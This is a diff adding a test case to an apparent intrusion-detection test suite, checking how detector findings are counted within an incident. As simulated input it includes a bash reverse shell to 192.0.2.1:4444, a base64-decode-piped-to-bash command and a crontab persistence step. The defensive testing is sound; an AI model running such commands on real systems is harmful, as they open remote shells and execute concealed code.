@@ -497,6 +497,34 @@ suite('detector', () => {
     assert.equal([...parts.outcome.findings.values()].at(-1)?.count, 1, 'begins anew after a rest')
   })
 
+  test('counts each finding once, also those that an incident tells which were not told before', () => {
+    for (const before of [100, 30, 8]) {
+      const host = simulatedHost(1)
+      const init = host.snapshot('/sbin/init', ['init'], { pid: 1, startNs: 5n })
+      const scanner = host.spawn(init, '/tmp/bash', ['/tmp/bash'])
+      for (let port = 1; port <= before; port++) host.connect(scanner, '192.0.2.1', port)
+      const parts = stage(createLineage(), createDetector({ rules, limits: { repeats: 10 } }))
+      const counts = () =>
+        [...parts.outcome.findings.values()].flatMap(({ ruleTitle, count }) =>
+          ruleTitle.includes('temporary place made a connection') ? [count] : [],
+        )
+      const sum = () => counts().reduce((total, count) => total + count, 0)
+      parts.feed(host, host.events)
+      const from = host.events.length
+      host.spawn(scanner, '/bin/bash', ['bash', '-c', 'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'])
+      host.spawn(scanner, '/bin/bash', ['bash', '-c', 'echo Y3VybA== | base64 -d | bash'])
+      host.spawn(scanner, '/usr/bin/crontab', ['crontab', '/tmp/x'])
+      parts.feed(host, host.events.slice(from))
+      assert.equal(parts.outcome.incidents.size, 1)
+      assert.equal(counts().length, before, 'an incident tells all that it has')
+      assert.equal(sum(), before)
+      const late = host.events.length
+      for (let port = 1; port <= 60; port++) host.connect(scanner, '192.0.2.1', before + port)
+      parts.feed(host, host.events.slice(late))
+      assert.equal(sum(), before + 60)
+    }
+  })
+
   test('follows no more processes than it has room for, whatever they do, and counts whom it lets go', () => {
     fc.assert(
       fc.property(
